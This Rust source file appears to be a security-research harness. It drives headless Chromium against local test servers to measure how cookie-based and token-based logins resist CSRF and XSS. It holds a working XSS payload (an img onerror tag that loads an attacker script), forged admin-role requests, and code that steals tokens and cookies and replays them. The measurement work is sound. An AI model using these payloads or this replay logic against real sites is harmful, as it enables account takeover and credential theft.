//! Experiment `browser`: what a real browser sends, blocks and leaks (claims S5 and T4).
//!
//! Debian's Chromium, headless, is driven over the DevTools protocol (`chromiumoxide`).
//! For each way of keeping a credential ([`Carrier`]) a group is set up from scratch: one
//! replica of the server with that configuration, a TLS nginx serving five host names on
//! one port (`sites.rs`), the collector and token handler (`helper.rs`), and a fresh
//! browser profile. The cases then run as a user and an attacker would:
//! - the app uses its API from a sibling subdomain and from another site (S5);
//! - the victim logs in, and a page on another site forges requests (CSRF, T4);
//! - the app page's deliberate injection point loads the attacker's script (XSS, T4).
//!
//! What the browser sent is read from nginx's log (per request: cookie or not,
//! `Authorization` or not, `Origin`, `Sec-Fetch-Site`), what the page saw from its script,
//! and what the attacker took from the collector; a stolen credential is then used from
//! outside the browser until it stops working. Each outcome follows from those observations.

pub mod helper;
pub mod sites;

use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use std::collections::HashMap;
use std::sync::{Arc, Mutex};

use chromiumoxide::browser::{Browser, BrowserConfig};
use chromiumoxide::cdp::browser_protocol::network::{
    self, EventRequestWillBeSent, EventRequestWillBeSentExtraInfo, EventResponseReceivedExtraInfo,
};
use chromiumoxide::Page;
use futures_util::StreamExt;
use serde::Deserialize;
use serde_json::{json, Value};

use crate::infra::topology::Group;
use crate::measure::probes::{self, PROBE_PASSWORD};
use crate::model::{Attempt, BrowserCase, BrowserStudy, Carrier, Outcome, SentRequest, ServerKind};
use helper::{Collected, Helper};
use sites::{Balancer, Certificate, Sites, Upstreams, API, API_ELSEWHERE, APP, ATTACKER};

/// The pages, written out for each run and removed with it.
const PAGES: [(&str, &str); 5] = [
    ("app/app.html", include_str!("pages/app/app.html")),
    ("app/app.js", include_str!("pages/app/app.js")),
    (
        "attacker/index.html",
        include_str!("pages/attacker/index.html"),
    ),
    ("attacker/evil.js", include_str!("pages/attacker/evil.js")),
    ("attacker/xss.js", include_str!("pages/attacker/xss.js")),
];

/// How long a page's script, a forged request or the collector may take.
/// `https://host:port` of a URL (splitting at a path would cut a host that begins with
/// the path's name: `https://app.example.test/app/...` is not `https:/`).
fn origin_of(url: &str) -> String {
    match url.split_once("://") {
        Some((scheme, rest)) => {
            let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
            format!("{scheme}://{authority}")
        }
        None => url.to_string(),
    }
}

const ANSWER_LIMIT: Duration = Duration::from_secs(10);

/// What the experiment needs from the run that starts it.
pub struct Settings {
    pub chromium: PathBuf,
    /// A folder of this run's own (pages, certificate, logs, browser profiles).
    pub dir: PathBuf,
    /// `ACCESS_TOKEN_TTL` of the token server here, seconds.
    pub ttl_s: u64,
    /// The token server's leeway on `exp`, seconds (what a stolen token gets on top).
    pub leeway_s: u64,
    /// The admin every replica bootstraps (`BOOTSTRAP_ADMIN`): the victim of the attacks.
    pub admin: (String, String),
}

/// Whoever runs the experiment starts the servers under test: one replica of `kind` with
/// `env` added to its usual environment.
pub(crate) trait Servers {
    async fn start(&self, kind: ServerKind, env: Vec<(String, String)>) -> anyhow::Result<Group>;
}

/// Chromium from `given`, else from PATH; the error says what to install.
pub fn find_chromium(given: Option<&Path>) -> anyhow::Result<PathBuf> {
    if let Some(p) = given {
        anyhow::ensure!(
            p.is_file(),
            "no browser at {} (Debian/Ubuntu: `apt-get install -y chromium`)",
            p.display()
        );
        return Ok(p.to_path_buf());
    }
    for name in ["chromium", "chromium-browser", "google-chrome"] {
        if let Ok(p) = crate::infra::topology::find_tool(name, "chromium") {
            return Ok(p);
        }
    }
    anyhow::bail!("no Chromium found: install it (Debian/Ubuntu: `apt-get install -y chromium`)")
}

/// The experiment as a comparison records it: `skipped` (with what to install) without
/// Chromium, `failed` with the reason, or the study. `dir` is this run's alone, and goes
/// with it (pages, certificate, browser profiles); the token server's lifetime and leeway
/// are in seconds.
pub(crate) async fn study(
    servers: &impl Servers,
    chromium: Option<&Path>,
    dir: PathBuf,
    (ttl_s, leeway_s): (u64, u64),
    admin: (String, String),
) -> anyhow::Result<BrowserStudy> {
    let chromium = find_chromium(chromium).map_err(|e| e.context("skipped"))?;
    let settings = Settings {
        chromium,
        dir,
        ttl_s,
        leeway_s,
        admin,
    };
    let study = run(servers, &settings)
        .await
        .map_err(|e| e.context("failed"));
    let _ = std::fs::remove_dir_all(&settings.dir);
    study
}

/// Every group, in turn; stolen tokens are watched until they stop working, all at once.
pub(crate) async fn run(start: &impl Servers, s: &Settings) -> anyhow::Result<BrowserStudy> {
    std::fs::create_dir_all(&s.dir)?;
    let pages = s.dir.join("pages");
    for (path, text) in PAGES {
        let file = pages.join(path);
        std::fs::create_dir_all(file.parent().unwrap_or(&pages))?;
        std::fs::write(file, text)?;
    }
    let cert = Certificate::make(&s.dir)?;
    let mut study = BrowserStudy {
        access_token_ttl_s: s.ttl_s,
        leeway_s: s.leeway_s,
        ..BrowserStudy::default()
    };
    let mut watches = Vec::new();
    let mut servers = Vec::new();
    // The token groups first: the tokens they have stolen are watched to their expiry
    // (lifetime + leeway) while the session groups run.
    for carrier in [
        Carrier::TokenLocalStorage,
        Carrier::TokenMemory,
        Carrier::TokenLocalStorageCsp,
        Carrier::SessionLax,
        Carrier::SessionStrict,
        Carrier::SessionNone,
    ] {
        let g = GroupRig::start(start, s, carrier, &cert, &pages).await?;
        if study.browser.is_empty() {
            let v = g.browser.browser.version().await?;
            study.browser = v.product;
            study.user_agent = v.user_agent;
            study.sites = g.sites.roles();
        }
        let outcome = g.cases(&mut study, &mut watches).await;
        servers.push(g.stop().await);
        outcome?;
    }
    // Stolen access tokens: how long each kept working from outside the browser.
    for (index, watch) in watches {
        let usable = watch.await.ok().flatten();
        study.cases[index].stolen_usable_s = usable;
    }
    drop(servers);
    // Reported sessions first, in the model's order.
    study.cases.sort_by_key(|c| c.carrier);
    Ok(study)
}

/// One group: the server configured for `carrier`, its sites, and a fresh browser.
struct GroupRig<'a> {
    carrier: Carrier,
    settings: &'a Settings,
    sites: Sites,
    /// The server itself, plain HTTP on loopback: how the attacker uses what they took.
    direct: String,
    http: reqwest::Client,
    browser: Chromium,
    balancer: Balancer,
    helper: Helper,
    /// The attacker's own account, signed up on this group's server.
    attacker: String,
    /// Kept until every stolen token has been watched to its end.
    server: Group,
}

/// A background measurement of how long a stolen token works, and the case it belongs to.
type Watch = (usize, tokio::task::JoinHandle<Option<f64>>);

#[derive(Debug, Deserialize)]
struct Answer {
    status: u16,
    body: String,
}

impl Answer {
    fn said(&self) -> String {
        if self.status == 0 {
            format!("no answer ({})", self.body.trim())
        } else {
            self.status.to_string()
        }
    }
}

impl<'a> GroupRig<'a> {
    async fn start(
        servers: &impl Servers,
        s: &'a Settings,
        carrier: Carrier,
        cert: &Certificate,
        pages: &Path,
    ) -> anyhow::Result<Self> {
        let sites = Sites {
            port: plumbing::free_port()?,
        };
        let (kind, same_site) = match carrier {
            Carrier::SessionLax => (ServerKind::Session, "Lax"),
            Carrier::SessionStrict => (ServerKind::Session, "Strict"),
            Carrier::SessionNone => (ServerKind::Session, "None"),
            _ => (ServerKind::Token, "Lax"),
        };
        let env: Vec<(String, String)> = [
            ("CORS_ALLOWED_ORIGINS", sites.origin(APP)),
            ("TRUSTED_PROXIES", "127.0.0.1".into()),
            ("COOKIE_SECURE", "true".into()),
            ("COOKIE_SAMESITE", same_site.into()),
            ("ACCESS_TOKEN_TTL", s.ttl_s.to_string()),
            ("BOOTSTRAP_ADMIN", format!("{}:{}", s.admin.0, s.admin.1)),
        ]
        .into_iter()
        .map(|(k, v)| (k.to_string(), v))
        .collect();
        let group = servers.start(kind, env).await?;
        let api_port = group.replicas[0].port;
        let direct = format!("http://127.0.0.1:{api_port}");
        let http = probes::client()?;
        let attacker = probes::probe_name();
        probes::sign_up(&http, &direct, &attacker).await?;
        let helper = Helper::start(direct.clone()).await?;
        let up = Upstreams {
            api: api_port,
            helper: helper.port,
        };
        let balancer = Balancer::start(&s.dir, pages, sites, cert, &up).await?;
        let slug = slug(carrier);
        let browser = Chromium::launch(
            &s.chromium,
            &s.dir.join(format!("profile-{slug}")),
            &cert.spki_sha256,
        )
        .await?;
        Ok(Self {
            carrier,
            settings: s,
            sites,
            direct,
            http,
            browser,
            balancer,
            helper,
            attacker,
            server: group,
        })
    }

    /// Closes the browser; the balancer and helper stop as they are dropped. The server is
    /// handed back: stolen tokens are used against it after the group is done.
    async fn stop(self) -> Group {
        self.browser.close().await;
        self.server
    }

    fn case_id(&self, attempt: Attempt) -> String {
        format!("{}-{}", slug(self.carrier), slug(attempt))
    }

    /// The page the victim uses: the API's own origin (the cookie's, and the one whose
    /// `document.cookie` and storage an injected script sees), or for the token handler the
    /// app's origin (the handler's cookie lives there).
    fn victim_page(&self) -> String {
        let api = self.sites.origin(API);
        match self.carrier {
            Carrier::TokenMemory => format!(
                "{}/app/app.html?carrier=memory&api={api}",
                self.sites.origin(APP)
            ),
            Carrier::TokenLocalStorageCsp => format!("{api}/app-csp/app.html?carrier=token"),
            Carrier::TokenLocalStorage => format!("{api}/app/app.html?carrier=token"),
            _ => format!("{api}/app/app.html?carrier=session"),
        }
    }

    async fn cases(
        &self,
        study: &mut BrowserStudy,
        watches: &mut Vec<Watch>,
    ) -> anyhow::Result<()> {
        let c = self.carrier;
        // S5: the app on app.example.test, its API on a sibling subdomain, then elsewhere.
        if matches!(
            c,
            Carrier::SessionLax
                | Carrier::SessionStrict
                | Carrier::SessionNone
                | Carrier::TokenLocalStorage
        ) {
            for a in [Attempt::ApiSameSite, Attempt::ApiCrossSite] {
                study.cases.push(self.api_use(a).await?);
            }
        }
        let victim = self.victim().await?;
        // CSRF, from a page on another site, while the victim is logged in.
        let forged: &[Attempt] = match c {
            Carrier::TokenMemory => &[Attempt::CsrfFormRefresh],
            Carrier::TokenLocalStorageCsp => &[],
            _ => &[
                Attempt::CsrfFetchRoles,
                Attempt::CsrfFormRefresh,
                Attempt::CsrfFormLogout,
            ],
        };
        for &a in forged {
            study.cases.push(self.forge(a, &victim).await?);
        }
        // XSS: once per kind of storage (the SameSite value changes nothing a script in the
        // page can do).
        if matches!(c, Carrier::SessionStrict | Carrier::SessionNone) {
            return Ok(());
        }
        let attempts: &[Attempt] = if c == Carrier::TokenLocalStorageCsp {
            &[Attempt::XssRead]
        } else {
            &[Attempt::XssRead, Attempt::XssAct]
        };
        for &a in attempts {
            if self
                .me(&victim, &format!("{}-before", self.case_id(a)))
                .await?
                .status
                != 200
            {
                self.log_in(&victim, &format!("{}-relogin", self.case_id(a)))
                    .await?;
            }
            let (case, watch) = self.inject(a, &victim).await?;
            if let Some(w) = watch {
                watches.push((study.cases.len(), w));
            }
            study.cases.push(case);
        }
        Ok(())
    }

    async fn log_in(&self, tab: &Tab, id: &str) -> anyhow::Result<Answer> {
        let (name, password) = &self.settings.admin;
        eval(
            &tab.page,
            &format!("app.login({name:?}, {password:?}, {id:?})"),
        )
        .await
    }

    async fn me(&self, tab: &Tab, id: &str) -> anyhow::Result<Answer> {
        eval(&tab.page, &format!("app.me({id:?})")).await
    }

    /// The victim's tab, logged in as the admin.
    async fn victim(&self) -> anyhow::Result<Tab> {
        let page = self.browser.open(&self.victim_page()).await?;
        let id = format!("{}-victim", slug(self.carrier));
        let login = self.log_in(&page, &id).await?;
        let me = self.me(&page, &id).await?;
        anyhow::ensure!(
            login.status == 200 && me.status == 200,
            "browser {}: the victim could not log in on its own page (login {}, /api/me {})",
            self.carrier.describe(),
            login.said(),
            me.said()
        );
        Ok(page)
    }

    /// S5: an ordinary user of the app logs in and reads `/api/me` on the API's origin.
    async fn api_use(&self, attempt: Attempt) -> anyhow::Result<BrowserCase> {
        let id = self.case_id(attempt);
        let host = if attempt == Attempt::ApiSameSite {
            API
        } else {
            API_ELSEWHERE
        };
        let carrier = if self.carrier.is_session() {
            "session"
        } else {
            "token"
        };
        let api = self.sites.origin(host);
        let from = self.sites.origin(APP);
        let tab = self
            .browser
            .open(&format!("{from}/app/app.html?carrier={carrier}&api={api}"))
            .await?;
        let user = probes::probe_name();
        probes::sign_up(&self.http, &self.direct, &user).await?;
        let login: Answer = eval(
            &tab.page,
            &format!("app.login({user:?}, {PROBE_PASSWORD:?}, {id:?})"),
        )
        .await?;
        let me = self.me(&tab, &id).await?;
        let browser_said = tab.cookies.for_case(&id);
        let _ = tab.page.close().await;
        let sent = self.balancer.sent(&id);
        Ok(BrowserCase {
            carrier: self.carrier,
            attempt,
            from,
            tried: format!("log in at {api}/auth/login, then GET {api}/api/me"),
            outcome: classify_use(self.carrier, &sent, me.status),
            page_saw: format!("login {}, /api/me {}", login.said(), me.said()),
            sent,
            browser_said,
            collected: Vec::new(),
            victim_logged_in_after: None,
            stolen_usable_s: None,
            stolen_refresh_status: None,
        })
    }

    /// CSRF: the attacker's page, in another tab of the victim's browser, forges `attempt`.
    async fn forge(&self, attempt: Attempt, victim: &Tab) -> anyhow::Result<BrowserCase> {
        let id = self.case_id(attempt);
        let api = self.sites.origin(API);
        let from = self.sites.origin(ATTACKER);
        let tab = self.browser.open(&format!("{from}/index.html")).await?;
        let page = &tab.page;
        let (method, url) = match attempt {
            Attempt::CsrfFetchRoles => (
                "PUT",
                format!("{api}/api/admin/users/{}/roles?case={id}", self.attacker),
            ),
            Attempt::CsrfFormRefresh if self.carrier == Carrier::TokenMemory => (
                "POST",
                format!("{}/bff/refresh?case={id}", self.sites.origin(APP)),
            ),
            Attempt::CsrfFormRefresh => ("POST", format!("{api}/auth/refresh?case={id}")),
            _ => ("POST", format!("{api}/auth/logout?case={id}")),
        };
        let (tried, page_saw) = if method == "PUT" {
            let a: Answer = eval(
                page,
                &format!("attack.fetchPut({url:?}, {{roles: ['user', 'admin']}})"),
            )
            .await?;
            (
                format!("fetch PUT {url} with credentials: 'include'"),
                a.said(),
            )
        } else {
            // The form navigates the tab away: submit after this evaluation has returned.
            eval::<String>(
                page,
                &format!("setTimeout(() => attack.form({url:?}), 0), 'scheduled'"),
            )
            .await?;
            self.wait_logged(&id, method).await;
            // The tab is now on (or loading) the forged request's answer: once it has
            // loaded, the browser has reported what it did with its cookies.
            let until = Instant::now() + Duration::from_secs(5);
            while Instant::now() < until {
                if page.url().await?.is_some_and(|u| u.contains(&id)) {
                    let _ = tokio::time::timeout(ANSWER_LIMIT, page.wait_for_navigation()).await;
                    break;
                }
                tokio::time::sleep(Duration::from_millis(50)).await;
            }
            (
                format!("submit a form: POST {url}"),
                "nothing (a form cannot read the answer)".to_string(),
            )
        };
        let browser_said = tab.cookies.for_case(&id);
        let _ = tab.page.close().await;
        let mut sent = self.balancer.sent(&id);
        sent.retain(|r| !r.path.starts_with("/favicon"));
        let mut outcome = classify_forged(self.carrier, &sent, method);
        if attempt == Attempt::CsrfFetchRoles && self.attacker_is_admin().await? {
            outcome = Outcome::ActedAsUser;
        }
        let after = self.me(victim, &format!("{id}-after")).await?;
        // Whatever the request carried, the victim being logged out is the attacker's win
        // (an answer's Set-Cookie can clear the cookie it was not sent).
        if after.status != 200 && !outcome.attack_succeeded() {
            outcome = Outcome::VictimLoggedOut;
        }
        Ok(BrowserCase {
            carrier: self.carrier,
            attempt,
            from,
            tried,
            sent,
            browser_said,
            page_saw,
            collected: Vec::new(),
            outcome,
            victim_logged_in_after: Some(after.status == 200),
            stolen_usable_s: None,
            stolen_refresh_status: None,
        })
    }

    /// Waits until nginx logged the forged request (or the limit passed: it was not sent).
    async fn wait_logged(&self, id: &str, method: &str) {
        let until = Instant::now() + Duration::from_secs(3);
        while Instant::now() < until {
            if self.balancer.sent(id).iter().any(|r| r.method == method) {
                return;
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    }

    async fn attacker_is_admin(&self) -> anyhow::Result<bool> {
        let r = probes::log_in(
            &self.http,
            &self.direct,
            &self.attacker,
            PROBE_PASSWORD,
            None,
        )
        .await?;
        let v: Value = r.json().await?;
        Ok(v["user"]["roles"]
            .as_array()
            .is_some_and(|roles| roles.iter().any(|r| r == "admin")))
    }

    /// XSS: the victim opens a link to their own app whose `name` carries the payload.
    async fn inject(
        &self,
        attempt: Attempt,
        victim: &Tab,
    ) -> anyhow::Result<(BrowserCase, Option<tokio::task::JoinHandle<Option<f64>>>)> {
        let id = self.case_id(attempt);
        let mode = if attempt == Attempt::XssRead {
            "read"
        } else {
            "act"
        };
        let script = format!(
            "{}/xss.js?mode={mode}&case={id}&attacker={}",
            self.sites.origin(ATTACKER),
            self.attacker
        );
        let payload = format!(
            "<img src=x onerror=\"var s=document.createElement('script');s.src='{script}';document.body.append(s)\">"
        );
        let link = format!("{}&name={}", self.victim_page(), encode(&payload));
        victim.page.goto(link.as_str()).await?;
        let from = victim.page.url().await?.unwrap_or_default();
        let from = origin_of(&from);
        let got = self.collected(&id).await;
        let collected: Vec<String> = got
            .iter()
            .filter(|c| c.what != "done")
            .map(|c| cut(&format!("{}: {}", c.what, c.value)))
            .collect();
        let mut case = BrowserCase {
            carrier: self.carrier,
            attempt,
            from,
            tried: if mode == "read" {
                "read document.cookie, localStorage and sessionStorage; send them to the collector"
                    .into()
            } else {
                "use the page's own code: GET /api/me, PUT the attacker's roles to admin; where the app has a \
                 token handler, POST /bff/refresh for a fresh access token"
                    .into()
            },
            sent: self.balancer.sent(&id),
            browser_said: victim.cookies.for_case(&id),
            page_saw: if got.is_empty() {
                "the injected script sent nothing".into()
            } else {
                format!("{} message(s) reached the collector", collected.len())
            },
            collected,
            outcome: Outcome::ScriptBlocked,
            victim_logged_in_after: None,
            stolen_usable_s: None,
            stolen_refresh_status: None,
        };
        if got.is_empty() {
            return Ok((case, None));
        }
        let mut watch = None;
        match attempt {
            Attempt::XssRead => {
                let found = stolen(&got);
                case.outcome = Outcome::NothingReadable;
                if let Some(access) = &found.access {
                    if self.works(&Credential::Bearer(access.clone())).await {
                        case.outcome = Outcome::CredentialStolen;
                        watch = Some(self.watch(
                            Credential::Bearer(access.clone()),
                            found.at.unwrap_or_else(Instant::now),
                        ));
                    }
                }
                if let Some(refresh) = &found.refresh {
                    let r = self
                        .http
                        .post(format!("{}/auth/refresh", self.direct))
                        .json(&json!({"refresh_token": refresh}))
                        .send()
                        .await?;
                    case.stolen_refresh_status = Some(r.status().as_u16());
                    if r.status() == 200 {
                        case.outcome = Outcome::CredentialStolen;
                    }
                }
                if let Some(cookie) = &found.cookie {
                    if self.works(&Credential::Cookie(cookie.clone())).await {
                        case.outcome = Outcome::CredentialStolen;
                    }
                }
            }
            _ => {
                if self.attacker_is_admin().await? {
                    case.outcome = Outcome::ActedAsUser;
                }
                if let Some(minted) = got.iter().find(|c| c.what == "minted") {
                    if self.works(&Credential::Bearer(minted.value.clone())).await {
                        watch =
                            Some(self.watch(Credential::Bearer(minted.value.clone()), minted.at));
                        if case.outcome != Outcome::ActedAsUser {
                            case.outcome = Outcome::CredentialStolen;
                        }
                    }
                }
            }
        }
        case.victim_logged_in_after =
            Some(self.me(victim, &format!("{id}-after")).await?.status == 200);
        Ok((case, watch))
    }

    /// What the collector received for `id`, once the script said it was done (or the limit
    /// passed: a script blocked from running sends nothing).
    async fn collected(&self, id: &str) -> Vec<Collected> {
        let until = Instant::now() + Duration::from_secs(3);
        loop {
            let got: Vec<Collected> = self
                .helper
                .collected()
                .into_iter()
                .filter(|c| c.case == id)
                .collect();
            if got.iter().any(|c| c.what == "done") || Instant::now() >= until {
                return got;
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    }

    async fn works(&self, credential: &Credential) -> bool {
        answers(&self.http, &self.direct, credential).await == Some(200)
    }

    /// From outside the browser: `GET /api/me` with the stolen credential every 250 ms until
    /// it is refused; seconds from when the collector received it.
    fn watch(
        &self,
        credential: Credential,
        since: Instant,
    ) -> tokio::task::JoinHandle<Option<f64>> {
        let (http, base) = (self.http.clone(), self.direct.clone());
        let limit = Duration::from_secs(self.settings.ttl_s + self.settings.leeway_s + 15);
        tokio::spawn(async move {
            while since.elapsed() < limit {
                match answers(&http, &base, &credential).await {
                    Some(200) => tokio::time::sleep(Duration::from_millis(250)).await,
                    Some(_) => return Some(since.elapsed().as_secs_f64()),
                    None => return None,
                }
            }
            None
        })
    }
}

/// A stolen credential, as the attacker presents it.
#[derive(Clone)]
enum Credential {
    Bearer(String),
    Cookie(String),
}

/// `GET /api/me` with `credential`: the status, or None when the server did not answer.
async fn answers(http: &reqwest::Client, base: &str, credential: &Credential) -> Option<u16> {
    let req = http.get(format!("{base}/api/me"));
    let req = match credential {
        Credential::Bearer(t) => req.bearer_auth(t),
        Credential::Cookie(c) => req.header("Cookie", c),
    };
    req.send().await.ok().map(|r| r.status().as_u16())
}

/// The credentials among what the collector received.
#[derive(Default)]
struct Stolen {
    access: Option<String>,
    refresh: Option<String>,
    /// `name=value` of the session cookie, as `document.cookie` showed it.
    cookie: Option<String>,
    at: Option<Instant>,
}

fn stolen(got: &[Collected]) -> Stolen {
    let mut s = Stolen::default();
    for c in got {
        match c.what.as_str() {
            "localStorage" | "sessionStorage" => {
                let v: Value = serde_json::from_str(&c.value).unwrap_or(Value::Null);
                let take = |k: &str| v.get(k).and_then(Value::as_str).map(str::to_owned);
                if let Some(t) = take("access_token") {
                    s.access = Some(t);
                    s.at = Some(c.at);
                }
                s.refresh = s.refresh.take().or(take("refresh_token"));
            }
            "document.cookie" => {
                s.cookie = c
                    .value
                    .split(';')
                    .map(str::trim)
                    .find(|kv| kv.starts_with("__Host-sid=") || kv.starts_with("sid="))
                    .map(str::to_owned);
            }
            _ => {}
        }
    }
    s
}

/// S5: what came of the app's `GET /api/me`.
fn classify_use(carrier: Carrier, sent: &[SentRequest], page_status: u16) -> Outcome {
    let me = sent
        .iter()
        .rev()
        .find(|r| r.method == "GET" && r.path == "/api/me");
    match me {
        None if sent.iter().any(|r| r.method == "OPTIONS") => Outcome::PreflightRefused,
        None => Outcome::NothingAttached,
        Some(r) if r.status == 200 && page_status == 200 => Outcome::Worked,
        Some(r) if carrier.is_session() && !r.cookie => Outcome::CookieWithheld,
        Some(r) if !carrier.is_session() && !r.authorization => Outcome::NothingAttached,
        Some(_) => Outcome::Refused,
    }
}

/// CSRF: what came of the forged request (`method`), from what reached the server.
fn classify_forged(carrier: Carrier, sent: &[SentRequest], method: &str) -> Outcome {
    let Some(r) = sent.iter().find(|r| r.method == method) else {
        return if sent.iter().any(|r| r.method == "OPTIONS") {
            Outcome::PreflightRefused
        } else {
            Outcome::NotSent
        };
    };
    let cookie_based = carrier.is_session() || carrier == Carrier::TokenMemory;
    if cookie_based && !r.cookie {
        // The session server refuses a cross-site POST whether or not it carries the cookie:
        // without that, a forged logout's answer clears the cookie the browser withheld.
        return if carrier.is_session() && r.status == 403 {
            Outcome::WithheldAndOriginRefused
        } else {
            Outcome::CookieWithheld
        };
    }
    if !cookie_based && !r.cookie && !r.authorization {
        return Outcome::NothingAttached;
    }
    match r.status {
        403 => Outcome::OriginRefused,
        200..=299 => Outcome::ActedAsUser,
        _ => Outcome::Refused,
    }
}

fn slug<T: serde::Serialize>(v: T) -> String {
    serde_json::to_value(v)
        .ok()
        .and_then(|v| v.as_str().map(str::to_owned))
        .unwrap_or_default()
}

/// Percent-encodes everything but unreserved characters (a query parameter's value).
fn encode(s: &str) -> String {
    s.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                (b as char).to_string()
            }
            _ => format!("%{b:02X}"),
        })
        .collect()
}

/// What the collector got, short enough for a table (a token stays recognisable).
fn cut(s: &str) -> String {
    if s.chars().count() <= 120 {
        return s.to_string();
    }
    let head: String = s.chars().take(117).collect();
    format!("{head}...")
}

async fn eval<T: serde::de::DeserializeOwned>(page: &Page, js: &str) -> anyhow::Result<T> {
    let v = tokio::time::timeout(ANSWER_LIMIT, page.evaluate_expression(js))
        .await
        .map_err(|_| anyhow::anyhow!("the page did not answer `{js}` within {ANSWER_LIMIT:?}"))?
        .map_err(|e| match e {
            chromiumoxide::error::CdpError::JavascriptException(x) => anyhow::anyhow!(
                "`{js}` failed in the page: {}",
                x.exception.and_then(|o| o.description).unwrap_or(x.text)
            ),
            e => anyhow::anyhow!("`{js}`: {e}"),
        })?;
    v.into_value()
        .map_err(|e| anyhow::anyhow!("`{js}` gave no usable value: {e}"))
}

/// Headless Chromium with a profile of its own, resolving only the experiment's names and
/// trusting only the run's certificate.
pub struct Chromium {
    browser: Browser,
    handler: tokio::task::JoinHandle<()>,
}

impl Chromium {
    pub async fn launch(exe: &Path, profile: &Path, spki_sha256: &str) -> anyhow::Result<Self> {
        let rules = sites::host_resolver_rules();
        let config = BrowserConfig::builder()
            .chrome_executable(exe)
            .new_headless_mode()
            // Chromium's sandbox needs user namespaces, which a container or root lacks.
            .no_sandbox()
            .user_data_dir(profile)
            .arg(("host-resolver-rules", rules.as_str()))
            .arg(("ignore-certificate-errors-spki-list", spki_sha256))
            .launch_timeout(Duration::from_secs(30))
            .request_timeout(ANSWER_LIMIT)
            .build()
            .map_err(|e| anyhow::anyhow!("browser settings: {e}"))?;
        let (browser, mut events) = Browser::launch(config)
            .await
            .map_err(|e| anyhow::anyhow!("cannot start {}: {e}", exe.display()))?;
        // The DevTools connection is served by polling this stream; an event this crate
        // cannot parse is not a reason to stop.
        let handler = tokio::spawn(async move { while events.next().await.is_some() {} });
        Ok(Self { browser, handler })
    }

    /// A new tab at `url`, its cookie decisions recorded from then on.
    pub async fn open(&self, url: &str) -> anyhow::Result<Tab> {
        let page = tokio::time::timeout(ANSWER_LIMIT, self.browser.new_page(url))
            .await
            .map_err(|_| anyhow::anyhow!("{url} did not load within {ANSWER_LIMIT:?}"))??;
        let cookies = CookieLog::attach(&page).await?;
        Ok(Tab { page, cookies })
    }

    pub async fn close(mut self) {
        let _ = self.browser.close().await;
        let _ = self.browser.wait().await;
        self.handler.abort();
    }
}

/// A browser tab and what the browser said about its cookies.
pub struct Tab {
    pub page: Page,
    pub cookies: CookieLog,
}

/// What Chromium reports (DevTools `Network` events) about cookies it did not send with a
/// request or did not store from a response, with its own reason (`SameSiteLax`,
/// `ThirdPartyPhaseout` ...), by request URL.
#[derive(Clone, Default)]
pub struct CookieLog(Arc<Mutex<CookieNotes>>);

#[derive(Default)]
struct CookieNotes {
    urls: HashMap<String, String>,
    notes: Vec<(String, String)>,
}

impl CookieLog {
    async fn attach(page: &Page) -> anyhow::Result<Self> {
        page.execute(network::EnableParams::default()).await?;
        let mut requests = page.event_listener::<EventRequestWillBeSent>().await?;
        let mut sent = page
            .event_listener::<EventRequestWillBeSentExtraInfo>()
            .await?;
        let mut received = page
            .event_listener::<EventResponseReceivedExtraInfo>()
            .await?;
        let log = Self::default();
        let notes = Arc::clone(&log.0);
        let note = move |id: &str, text: String| {
            lock(&notes).notes.push((id.to_string(), text));
        };
        let urls = Arc::clone(&log.0);
        // Ends when the tab closes (its event streams end).
        tokio::spawn(async move {
            loop {
                tokio::select! {
                    Some(e) = requests.next() => {
                        lock(&urls).urls.insert(e.request_id.inner().clone(), e.request.url.clone());
                    }
                    Some(e) = sent.next() => {
                        for c in e.associated_cookies.iter().filter(|c| !c.blocked_reasons.is_empty()) {
                            let why: Vec<&str> = c.blocked_reasons.iter().map(|r| r.as_ref()).collect();
                            note(e.request_id.inner(), format!("did not send cookie {}: {}", c.cookie.name, why.join(", ")));
                        }
                    }
                    Some(e) = received.next() => {
                        for c in &e.blocked_cookies {
                            let name = c.cookie_line.split('=').next().unwrap_or_default();
                            let why: Vec<&str> = c.blocked_reasons.iter().map(|r| r.as_ref()).collect();
                            note(e.request_id.inner(), format!("did not store Set-Cookie {name}: {}", why.join(", ")));
                        }
                    }
                    else => break,
                }
            }
        });
        Ok(log)
    }

    /// The notes on requests whose URL names `case`.
    pub fn for_case(&self, case: &str) -> Vec<String> {
        let tag = format!("case={case}");
        let n = lock(&self.0);
        let mut out: Vec<String> = n
            .notes
            .iter()
            .filter(|(id, _)| {
                n.urls.get(id).is_some_and(|u| {
                    u.split_once('?')
                        .is_some_and(|(_, q)| q.split('&').any(|kv| kv == tag))
                })
            })
            .map(|(_, t)| t.clone())
            .collect();
        out.dedup();
        out
    }
}

fn lock<T>(m: &Mutex<T>) -> std::sync::MutexGuard<'_, T> {
    m.lock().unwrap_or_else(|e| e.into_inner())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_origin_is_scheme_and_authority() {
        assert_eq!(
            origin_of("https://app.example.test:4443/app/app.html?x=1"),
            "https://app.example.test:4443"
        );
        assert_eq!(
            origin_of("https://api.example.test:1/"),
            "https://api.example.test:1"
        );
        assert_eq!(origin_of("about:blank"), "about:blank");
    }

    fn sent(
        method: &str,
        path: &str,
        status: u16,
        cookie: bool,
        authorization: bool,
    ) -> SentRequest {
        SentRequest {
            method: method.into(),
            host: API.into(),
            path: path.into(),
            status,
            cookie,
            authorization,
            origin: None,
            sec_fetch_site: None,
            allow_origin: None,
            allow_credentials: false,
        }
    }

    #[test]
    fn outcomes_follow_from_what_reached_the_server() {
        let s = Carrier::SessionLax;
        assert_eq!(
            classify_use(s, &[sent("GET", "/api/me", 401, false, false)], 401),
            Outcome::CookieWithheld
        );
        assert_eq!(
            classify_use(s, &[sent("GET", "/api/me", 200, true, false)], 200),
            Outcome::Worked
        );
        assert_eq!(
            classify_forged(s, &[sent("OPTIONS", "/x", 204, false, false)], "PUT"),
            Outcome::PreflightRefused
        );
        assert_eq!(
            classify_forged(s, &[sent("POST", "/auth/logout", 403, true, false)], "POST"),
            Outcome::OriginRefused
        );
        assert_eq!(
            classify_forged(s, &[sent("POST", "/auth/logout", 204, true, false)], "POST"),
            Outcome::ActedAsUser
        );
        assert_eq!(
            classify_forged(
                Carrier::TokenLocalStorage,
                &[sent("POST", "/auth/logout", 415, false, false)],
                "POST"
            ),
